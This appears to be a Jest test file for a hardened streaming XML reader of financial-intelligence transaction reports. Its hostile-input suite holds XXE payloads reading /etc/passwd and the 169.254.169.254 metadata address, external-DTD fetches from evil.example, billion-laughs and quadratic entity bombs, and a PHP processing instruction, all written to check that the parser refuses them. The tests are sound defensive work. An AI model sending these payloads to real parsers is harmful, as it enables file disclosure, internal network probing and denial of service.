import dns from 'node:dns';
import net from 'node:net';
import fc from 'fast-check';
import { SaxesParser } from 'saxes';
import { DEFAULT_XML_LIMITS, readXmlDocument, readXmlRecords, XmlReadError } from './safe-xml-reader';
import type { SafeXmlLimits, XmlErrorCode, XmlReadResult } from './safe-xml-reader';
import { compact, expand } from '../model/compact-element';
import type { XmlElement } from './xml-element';

const MB = 1024 * 1024;

/** A small STR in the shape of the FIU samples; written here, not copied. */
const REPORT = `<?xml version="1.0" encoding="utf-8"?>
<report>
  <rentity_id>3177</rentity_id>
  <submission_code>E</submission_code>
  <report_code>STR</report_code>
  <entity_reference>STR-2026-0042</entity_reference>
  <submission_date>2026-06-02T12:00:00</submission_date>
  <currency_code_local>EUR</currency_code_local>
  <reporting_person>
    <first_name>Zoë</first_name>
    <last_name>Müller</last_name>
    <email>mlro@bank.example</email>
  </reporting_person>
  <reason><![CDATA[Structuring: 9 deposits < 10,000 EUR & same day]]></reason>
  <transaction>
    <transactionnumber>TX-0001</transactionnumber>
    <transaction_location>Dublin</transaction_location>
    <date_transaction>2026-05-30T10:15:00</date_transaction>
    <transmode_code>C</transmode_code>
    <amount_local>9500.00</amount_local>
    <t_from_my_client>
      <from_funds_code>K</from_funds_code>
      <from_account>
        <institution_name>Bank of Examples &amp; Co</institution_name>
        <swift>EXAMIE2D</swift>
        <account>0104572057772</account>
        <currency_code>EUR</currency_code>
        <signatory>
          <t_person>
            <first_name>Jos&#233;</first_name>
            <last_name>日本</last_name>
          </t_person>
        </signatory>
      </from_account>
      <from_country>IE</from_country>
    </t_from_my_client>
    <t_to>
      <to_funds_code>A</to_funds_code>
      <to_country>DE</to_country>
    </t_to>
  </transaction>
  <transaction>
    <transactionnumber>TX-0002</transactionnumber>
    <amount_local>9800.00</amount_local>
    <t_from>
      <from_funds_code>K</from_funds_code>
      <from_person>
        <first_name>Ünal</first_name>
        <phones>
          <phone><tph_number>+353100000001</tph_number></phone>
          <phone><tph_number>+353100000002</tph_number></phone>
        </phones>
      </from_person>
      <from_country>IE</from_country>
    </t_from>
  </transaction>
  <report_indicators>
    <indicator>ST01</indicator>
    <indicator>ST02</indicator>
  </report_indicators>
</report>
`;

async function collect(
  source: Parameters<typeof readXmlRecords>[0],
  limits?: Partial<SafeXmlLimits>,
): Promise<{ records: XmlElement[]; result: XmlReadResult }> {
  const records: XmlElement[] = [];
  const result = await readXmlRecords(source, (record, index) => {
    expect(index).toBe(records.length);
    records.push(record);
  }, limits);
  return { records, result };
}

async function refusal(run: () => Promise<unknown>): Promise<XmlReadError> {
  try {
    await run();
  } catch (error) {
    if (error instanceof XmlReadError) return error;
    throw error;
  }
  throw new Error('the document was accepted');
}

async function* chunked(bytes: Buffer, size: number): AsyncGenerator<Buffer> {
  for (let offset = 0; offset < bytes.length; offset += size) yield bytes.subarray(offset, offset + size);
}

function flatten(elements: XmlElement[]): XmlElement[] {
  return elements.flatMap((element) => [element, ...flatten(element.children)]);
}

function find(records: XmlElement[], xpath: string): XmlElement {
  const found = flatten(records).find((element) => element.xpath === xpath);
  if (found === undefined) throw new Error(`no element at ${xpath}`);
  return found;
}

/** Start-tag positions computed from the source text (the documents used have no '<' in comments or CDATA). */
function startTagPositions(doc: string): { name: string; line: number; column: number }[] {
  const positions: { name: string; line: number; column: number }[] = [];
  doc.split(/\r\n|\n|\r/).forEach((text, index) => {
    for (const match of text.matchAll(/<([A-Za-z_][\w.-]*)/g)) {
      positions.push({ name: match[1], line: index + 1, column: Array.from(text.slice(0, match.index)).length + 1 });
    }
  });
  return positions;
}

describe('readXmlRecords', () => {
  it('reads header fields and transactions as records, with XPaths, trimmed string texts and positions', async () => {
    const { records, result } = await collect(REPORT);

    expect(result).toEqual({ rootName: 'report', rootAttributes: {}, recordCount: 11, bytes: Buffer.byteLength(REPORT) });
    expect(records.map((r) => r.xpath)).toEqual([
      '/report/rentity_id',
      '/report/submission_code',
      '/report/report_code',
      '/report/entity_reference',
      '/report/submission_date',
      '/report/currency_code_local',
      '/report/reporting_person',
      '/report/reason',
      '/report/transaction[1]',
      '/report/transaction[2]',
      '/report/report_indicators',
    ]);
    expect(records[0]).toEqual({
      name: 'rentity_id',
      attributes: {},
      children: [],
      text: '3177',
      line: 3,
      column: 3,
      xpath: '/report/rentity_id',
    });

    const account = find(records, '/report/transaction[1]/t_from_my_client/from_account/account');
    expect(account.text).toBe('0104572057772');
    expect(typeof account.text).toBe('string');
    expect([account.line, account.column]).toEqual([26, 9]);
    expect(find(records, '/report/reason').text).toBe('Structuring: 9 deposits < 10,000 EUR & same day');
    expect(find(records, '/report/reporting_person/first_name').text).toBe('Zoë');
    expect(find(records, '/report/transaction[1]/t_from_my_client/from_account/institution_name').text).toBe('Bank of Examples & Co');
    expect(find(records, '/report/transaction[1]/t_from_my_client/from_account/signatory/t_person/first_name').text).toBe('José');
    expect(find(records, '/report/transaction[1]/t_from_my_client/from_account/signatory/t_person/last_name').text).toBe('日本');
    expect(find(records, '/report/transaction[2]/t_from/from_person/phones/phone/tph_number').text).toBe('+353100000001');
    expect(find(records, '/report/transaction[2]/t_from/from_person/phones/phone[2]/tph_number').text).toBe('+353100000002');
    expect(find(records, '/report/report_indicators/indicator').text).toBe('ST01');
    expect(find(records, '/report/report_indicators/indicator[2]').text).toBe('ST02');
    expect(records[8].text).toBe('');
    expect(records[8].line).toBe(15);

    // Every element's position is the '<' of its start tag.
    const seen = flatten(records).map(({ name, line, column }) => ({ name, line, column }));
    expect(seen).toEqual(startTagPositions(REPORT).slice(1));
  });

  it('gives the same records when the input arrives in 7-byte chunks that split multi-byte characters', async () => {
    const bytes = Buffer.from(REPORT, 'utf8');
    const splitsCharacter = (offset: number): boolean => (bytes[offset] & 0xc0) === 0x80;
    const boundaries = Array.from({ length: Math.floor(bytes.length / 7) }, (_, i) => (i + 1) * 7);
    expect(boundaries.some(splitsCharacter)).toBe(true);

    const whole = await collect(REPORT);
    expect(await collect(chunked(bytes, 7))).toEqual(whole);
    expect(await collect(chunked(bytes, 1))).toEqual(whole);
    expect(await collect(bytes)).toEqual(whole);
  });

  it('puts positions on the start tag whatever precedes it (CRLF, comments, CDATA, tabs, BOM)', async () => {
    const doc =
      '\uFEFF<?xml version="1.0"?><!-- prolog --><report>\r\n\t<a x="1"><!-- c --><b/><![CDATA[t]]><c>v</c></a>\r' +
      '<a><b></b>\n  <b\n   y="2"/></a><!-- end --></report>';
    const root = await readXmlDocument(doc);
    const seen = [root, ...flatten(root.children)].map(({ name, line, column }) => ({ name, line, column }));
    expect(seen).toEqual(startTagPositions(doc.slice(1)));
    expect(root.children[0].text).toBe('t');
    expect(root.children[1].children.map((b) => b.xpath)).toEqual(['/report/a[2]/b', '/report/a[2]/b[2]']);
    expect(root.children[1].children[1].attributes).toEqual({ y: '2' });
  });

  it('indexes transaction always and other elements from their second occurrence, as expand() does', async () => {
    const { records } = await collect('<report><transaction><p/><p/><q/></transaction><x/><x/></report>');
    expect(flatten(records).map((r) => r.xpath)).toEqual([
      '/report/transaction[1]',
      '/report/transaction[1]/p',
      '/report/transaction[1]/p[2]',
      '/report/transaction[1]/q',
      '/report/x',
      '/report/x[2]',
    ]);
    const root = await readXmlDocument(REPORT);
    const xpaths = (element: XmlElement): string[] => [element.xpath, ...element.children.flatMap(xpaths)];
    expect(xpaths(root)).toEqual(xpaths(expand(compact(root))));
  });

  it('keeps attributes as strings, drops namespace declarations and keeps xsi attributes', async () => {
    const doc =
      '<report xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="goAML.xsd">' +
      '<amount currency="EUR" __proto__="p">007</amount></report>';
    const { records, result } = await collect(doc);
    expect(result.rootAttributes).toEqual({ 'xsi:noNamespaceSchemaLocation': 'goAML.xsd' });
    expect(records[0].attributes).toEqual({ currency: 'EUR', ['__proto__']: 'p' });
    expect(Object.getPrototypeOf(records[0].attributes)).toBe(Object.prototype);
    expect(records[0].text).toBe('007');
  });

  it('awaits an async onRecord before reading further, in document order', async () => {
    const transactions = Array.from({ length: 6 }, (_, i) => `<transaction><transactionnumber>T${i}</transactionnumber></transaction>`);
    let pulled = 0;
    async function* source(): AsyncGenerator<string> {
      for (const chunk of ['<report><rentity_id>1</rentity_id>', ...transactions, '</report>']) {
        pulled++;
        yield chunk;
      }
    }
    const seen: string[] = [];
    let active = 0;
    const result = await readXmlRecords(source(), async (record, index) => {
      active++;
      expect(active).toBe(1);
      // Record i closes in chunk i + 1: nothing further was read yet.
      expect(pulled).toBe(index + 1);
      await new Promise((resolve) => setTimeout(resolve, (6 - index) * 3));
      seen.push(record.children[0]?.text ?? record.text);
      active--;
    });
    expect(seen).toEqual(['1', 'T0', 'T1', 'T2', 'T3', 'T4', 'T5']);
    expect(result.recordCount).toBe(7);
  });

  it('returns the whole tree from readXmlDocument', async () => {
    const root = await readXmlDocument(Buffer.from(REPORT));
    expect(root.name).toBe('report');
    expect(root.xpath).toBe('/report');
    expect([root.line, root.column]).toEqual([2, 1]);
    expect(root.children).toHaveLength(11);
    expect(root.children).toEqual((await collect(REPORT)).records);
  });

  it('accepts 1M numeric character references under the text limit', async () => {
    const root = await readXmlDocument(`<report><a>${'&#65;'.repeat(1_000_000)}</a></report>`);
    expect(root.children[0].text).toHaveLength(1_000_000);
  });

  it('relies on saxes internals that still exist (limit buffers, handler fields kept fast)', () => {
    const parser = new SaxesParser({ xmlns: false, position: true });
    const handler = (): void => undefined;
    parser.on('opentagstart', handler);
    parser.on('processinginstruction', handler);
    const internals = parser as unknown as Record<string, unknown>;
    expect(internals.openTagStartHandler).toBe(handler);
    expect(internals.piHandler).toBe(handler);
    for (const buffer of ['text', 'name', 'entity', 'piTarget']) expect(typeof internals[buffer]).toBe('string');
  });

  it('rejects bad limits', async () => {
    await expect(readXmlDocument('<report/>', { maxDepth: 0 })).rejects.toThrow(RangeError);
    expect(DEFAULT_XML_LIMITS).toEqual({
      maxBytes: 10 * MB,
      maxDepth: 64,
      maxElements: 5_000_000,
      maxTextBytes: MB,
      maxAttributes: 32,
      maxNameLength: 128,
    });
  });
});

describe('readXmlRecords on hostile input', () => {
  let connect: jest.SpyInstance;
  let lookup: jest.SpyInstance;
  let lookupPromise: jest.SpyInstance;
  let rssBefore: number;

  beforeEach(() => {
    connect = jest.spyOn(net.Socket.prototype, 'connect');
    lookup = jest.spyOn(dns, 'lookup');
    lookupPromise = jest.spyOn(dns.promises, 'lookup');
    rssBefore = process.memoryUsage().rss;
  });

  afterEach(() => {
    expect(connect).not.toHaveBeenCalled();
    expect(lookup).not.toHaveBeenCalled();
    expect(lookupPromise).not.toHaveBeenCalled();
    // A guard against buffering the input, not a benchmark.
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(200 * MB);
    jest.restoreAllMocks();
  });

  const LOLS = [
    '<!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
  ].join('\n  ');

  /** Bytes from text and raw byte values. */
  const bytes = (...parts: (string | number[])[]): Buffer => Buffer.concat(parts.map((part) => Buffer.from(part as string)));
  const attributes = (n: number): string => Array.from({ length: n }, (_, i) => `a${i}="x"`).join(' ');
  const LOL_DOC = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n  ${LOLS}\n]>\n<lolz>&lol9;</lolz>`;
  const QUADRATIC = `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(100_000)}">]><r>${'&a;'.repeat(100_000)}</r>`;

  interface HostileCase {
    name: string;
    code: XmlErrorCode;
    source: () => Parameters<typeof readXmlRecords>[0];
    limits?: Partial<SafeXmlLimits>;
    /** Expected [line, column]. */
    at?: [number, number];
  }

  const cases: HostileCase[] = [
    {
      name: 'XXE with a file URL',
      code: 'doctype_forbidden',
      source: () => '<?xml version="1.0"?>\n<!DOCTYPE report [<!ENTITY x SYSTEM "file:///etc/passwd">]><report>&x;</report>',
      at: [2, 1],
    },
    {
      name: 'XXE with an http URL',
      code: 'doctype_forbidden',
      source: () => '<!DOCTYPE report [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><report><a>&x;</a></report>',
      at: [1, 1],
    },
    { name: 'an external DTD', code: 'doctype_forbidden', source: () => '<!DOCTYPE report SYSTEM "http://evil.example/x.dtd"><report/>' },
    {
      name: 'a parameter entity',
      code: 'doctype_forbidden',
      source: () => '<!-- hi --><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>',
      at: [1, 12],
    },
    { name: 'billion laughs', code: 'doctype_forbidden', source: () => LOL_DOC, at: [2, 1] },
    { name: 'quadratic blow-up', code: 'doctype_forbidden', source: () => QUADRATIC },
    { name: 'a DOCTYPE after the root start', code: 'doctype_forbidden', source: () => '<report><!DOCTYPE report></report>' },
    {
      name: '1M numeric character references over the text limit',
      code: 'text_too_large',
      source: () => `<report><a>${'&#65;'.repeat(1_000_000)}</a></report>`,
      limits: { maxTextBytes: 512 * 1024 },
    },
    { name: '10,000 nested elements', code: 'too_deep', source: () => `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`, at: [1, 193] },
    { name: 'too many elements', code: 'too_many_elements', source: () => `<r>${'<a/>'.repeat(5_000)}</r>`, limits: { maxElements: 999 } },
    { name: 'too many attributes', code: 'too_many_attributes', source: () => `<report><a ${attributes(40)}/></report>`, at: [1, 9] },
    { name: 'a long element name', code: 'name_too_long', source: () => `<report><${'n'.repeat(200)}/></report>`, at: [1, 9] },
    { name: 'a custom entity without DTD', code: 'entity_forbidden', source: () => '<report><a>&custom;</a></report>', at: [1, 19] },
    { name: 'a custom entity in an attribute', code: 'entity_forbidden', source: () => '<report><a b="&custom;"/></report>' },
    { name: 'an Object.prototype name as entity', code: 'entity_forbidden', source: () => '<report><a>&constructor;</a></report>' },
    {
      name: 'a processing instruction in the prolog',
      code: 'processing_instruction_forbidden',
      source: () => '<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl"?><report/>',
    },
    { name: 'a processing instruction in the root', code: 'processing_instruction_forbidden', source: () => '<r><?php exec(); ?></r>' },
    { name: 'a processing instruction after the root', code: 'processing_instruction_forbidden', source: () => '<report/>\n<?pi?>' },
    { name: 'an unclosed tag', code: 'malformed_xml', source: () => '<report>\n  <a>\n</report>', at: [3, 9] },
    { name: 'a truncated document', code: 'malformed_xml', source: () => '<report>\n  <a>x', at: [2, 6] },
    { name: 'a second root', code: 'malformed_xml', source: () => '<report/><report/>' },
    { name: 'text after the root', code: 'malformed_xml', source: () => '<report/>\ntrailing' },
    { name: 'a bare ampersand', code: 'malformed_xml', source: () => '<report><a>AT&T Corp</a></report>' },
    { name: 'a NUL character reference', code: 'malformed_xml', source: () => '<report>&#0;</report>' },
    { name: 'a prefixed element', code: 'namespace_forbidden', source: () => '<g:report xmlns:g="urn:goaml"/>' },
    { name: 'a default namespace', code: 'namespace_forbidden', source: () => '<report xmlns="urn:goaml"/>' },
    { name: 'empty input', code: 'empty_document', source: () => '' },
    { name: 'an empty Buffer', code: 'empty_document', source: () => Buffer.alloc(0) },
    { name: 'whitespace and comments only', code: 'empty_document', source: () => ' \n<!-- nothing -->\n' },
    { name: 'a byte-order mark only', code: 'empty_document', source: () => bytes([0xef, 0xbb, 0xbf]) },
    {
      name: 'invalid UTF-8 (0xC3 0x28)',
      code: 'invalid_utf8',
      source: () => bytes('<report>\n  <name>ab', [0xc3, 0x28], '</name>\n</report>'),
      at: [2, 11],
    },
    {
      name: 'invalid UTF-8 split across chunks',
      code: 'invalid_utf8',
      source: () => chunked(bytes('<report>\n  <name>é', [0xe6, 0x97], '(</name></report>'), 1),
      at: [2, 10],
    },
    { name: 'a truncated UTF-8 sequence at the end', code: 'invalid_utf8', source: () => bytes('<report/>', [0xe6, 0x97]), at: [1, 10] },
    { name: 'an overlong UTF-8 encoding', code: 'invalid_utf8', source: () => bytes('<r>', [0xc0, 0xbc], '</r>'), at: [1, 4] },
    { name: 'an encoded surrogate', code: 'invalid_utf8', source: () => bytes('<r>', [0xed, 0xa0, 0x80], '</r>'), at: [1, 4] },
    { name: 'UTF-16 input', code: 'invalid_utf8', source: () => Buffer.from('\uFEFF<report/>', 'utf16le'), at: [1, 1] },
    { name: 'a non-UTF-8 declaration', code: 'invalid_utf8', source: () => '<?xml version="1.0" encoding="ISO-8859-1"?><report/>' },
    {
      name: 'a document over maxBytes',
      code: 'document_too_large',
      source: () => `<report>${' '.repeat(2_000)}</report>`,
      limits: { maxBytes: 1_000 },
    },
  ];

  for (const { name, source, limits, code, at } of cases) {
    it(`refuses ${name} with ${code}`, async () => {
      const error = await refusal(() => collect(source(), limits));
      expect(error.code).toBe(code);
      expect(error.line).toBeGreaterThanOrEqual(1);
      expect(error.column).toBeGreaterThanOrEqual(1);
      if (at !== undefined) expect([error.line, error.column]).toEqual(at);
      expect(error.message).toContain(`line ${error.line}, column ${error.column}`);
    });
  }

  /** Repeats one chunk `times` times, counting how many were pulled. */
  function repeated(head: string, body: Buffer, times: number, tail = ''): { source: AsyncGenerator<Buffer>; pulled: () => number } {
    let pulled = 0;
    async function* generate(): AsyncGenerator<Buffer> {
      pulled++;
      yield Buffer.from(head);
      for (let i = 0; i < times; i++) {
        pulled++;
        yield body;
      }
      pulled++;
      yield Buffer.from(tail);
    }
    return { source: generate(), pulled: () => pulled };
  }

  const FILLER = Buffer.alloc(64 * 1024, 'a');
  const FIFTY_MB = (50 * MB) / FILLER.length;

  it('refuses a DOCTYPE before reading what follows it', async () => {
    const { source, pulled } = repeated('<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">]><r>', Buffer.from('&a;'.repeat(1000)), 10_000, '</r>');
    expect((await refusal(() => collect(source))).code).toBe('doctype_forbidden');
    expect(pulled()).toBe(1);
  });

  it('refuses a streamed 50 MB text node at the text limit', async () => {
    const { source, pulled } = repeated('<report><reason>', FILLER, FIFTY_MB, '</reason></report>');
    expect((await refusal(() => collect(source))).code).toBe('text_too_large');
    expect(pulled()).toBeLessThanOrEqual(DEFAULT_XML_LIMITS.maxTextBytes / FILLER.length + 2);
  });

  it('refuses a streamed 50 MB text node at the document limit when the text limit is larger', async () => {
    const { source, pulled } = repeated('<report><reason>', FILLER, FIFTY_MB, '</reason></report>');
    expect((await refusal(() => collect(source, { maxTextBytes: 100 * MB }))).code).toBe('document_too_large');
    expect(pulled()).toBeLessThanOrEqual(DEFAULT_XML_LIMITS.maxBytes / FILLER.length + 2);
  });

  const streamedConstructs: { name: string; head: string; body: string; code: XmlErrorCode }[] = [
    { name: 'CDATA section full of markup', head: '<report><a><![CDATA[', body: '<a>&x;</a>', code: 'text_too_large' },
    { name: 'comment', head: '<report><!--', body: '<a>&x;</a>', code: 'text_too_large' },
    { name: 'attribute value', head: '<report><a b="', body: 'x>y', code: 'text_too_large' },
    { name: 'entity reference', head: '<report><a>&', body: 'a<b>', code: 'malformed_xml' },
    { name: 'element name', head: '<report><', body: 'name', code: 'name_too_long' },
    { name: 'processing instruction target', head: '<report><?', body: 'name', code: 'name_too_long' },
    { name: 'whitespace run', head: '<report>', body: ' \n\t', code: 'text_too_large' },
  ];

  for (const { name, head, body, code } of streamedConstructs) {
    it(`refuses an endless ${name} early with ${code}`, async () => {
      const chunk = Buffer.from(body.repeat(Math.ceil(FILLER.length / body.length)));
      const { source, pulled } = repeated(head, chunk, FIFTY_MB, '');
      expect((await refusal(() => collect(source, { maxBytes: 100 * MB }))).code).toBe(code);
      expect(pulled()).toBeLessThanOrEqual(MB / FILLER.length + 3);
    });
  }
});

describe('readXmlRecords on mutated documents', () => {
  const BASE = Buffer.from(REPORT, 'utf8');
  const fragments = ['<', '>', '&', ']]>', '<!DOCTYPE r>', '&#', '&#0;', '&#x110000;', '&lt;', '<?pi?>', '<![CDATA[', '-->', '"', '</'];
  const characters = ['é', '日本', '\r', '\uFEFF'];
  const mutation = fc.oneof(
    fc.record({ kind: fc.constant('delete' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 60 }) }),
    fc.record({ kind: fc.constant('duplicate' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 200 }), to: fc.nat() }),
    fc.record({
      kind: fc.constant('insert' as const),
      at: fc.nat(),
      bytes: fc.oneof(
        fc.constantFrom(...fragments, ...characters).map((s) => Buffer.from(s)),
        fc.uint8Array({ minLength: 1, maxLength: 6 }).map((b) => Buffer.from(b)),
      ),
    }),
  );

  type Mutation = typeof mutation extends fc.Arbitrary<infer M> ? M : never;

  function mutate(doc: Buffer, mutations: Mutation[]): Buffer {
    for (const m of mutations) {
      const at = m.at % (doc.length + 1);
      if (m.kind === 'delete') doc = Buffer.concat([doc.subarray(0, at), doc.subarray(at + m.length)]);
      else if (m.kind === 'duplicate') {
        const to = m.to % (doc.length + 1);
        doc = Buffer.concat([doc.subarray(0, to), doc.subarray(at, at + m.length), doc.subarray(to)]);
      } else doc = Buffer.concat([doc.subarray(0, at), m.bytes, doc.subarray(at)]);
    }
    return doc;
  }

  async function outcome(source: Parameters<typeof readXmlRecords>[0]): Promise<unknown> {
    try {
      return await collect(source, { maxTextBytes: 4096, maxElements: 500 });
    } catch (error) {
      if (!(error instanceof XmlReadError)) throw error;
      expect(error.line).toBeGreaterThanOrEqual(1);
      expect(error.column).toBeGreaterThanOrEqual(1);
      // saxes reports stray text outside the root where the text run ends, which depends on the chunking.
      if (error.reason.startsWith('text data outside of root')) return { code: error.code };
      return { code: error.code, line: error.line, column: error.column };
    }
  }

  it('only ever refuses with XmlReadError, the same way whatever the chunking', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(mutation, { minLength: 1, maxLength: 4 }), fc.integer({ min: 1, max: 97 }), async (mutations, size) => {
        const doc = mutate(BASE, mutations);
        const whole = await outcome(doc);
        expect(await outcome(chunked(doc, size))).toEqual(whole);
      }),
      { numRuns: 300 },
    );
  }, 120_000);

  it('reads a valid document the same way at any split points', async () => {
    const whole = await outcome(BASE);
    await fc.assert(
      fc.asyncProperty(fc.uniqueArray(fc.integer({ min: 1, max: BASE.length - 1 }), { maxLength: 40 }), async (cuts) => {
        const points = [0, ...cuts.sort((a, b) => a - b), BASE.length];
        async function* pieces(): AsyncGenerator<Buffer | string> {
          for (let i = 1; i < points.length; i++) yield BASE.subarray(points[i - 1], points[i]);
        }
        expect(await outcome(pieces())).toEqual(whole);
      }),
      { numRuns: 100 },
    );
  });
});
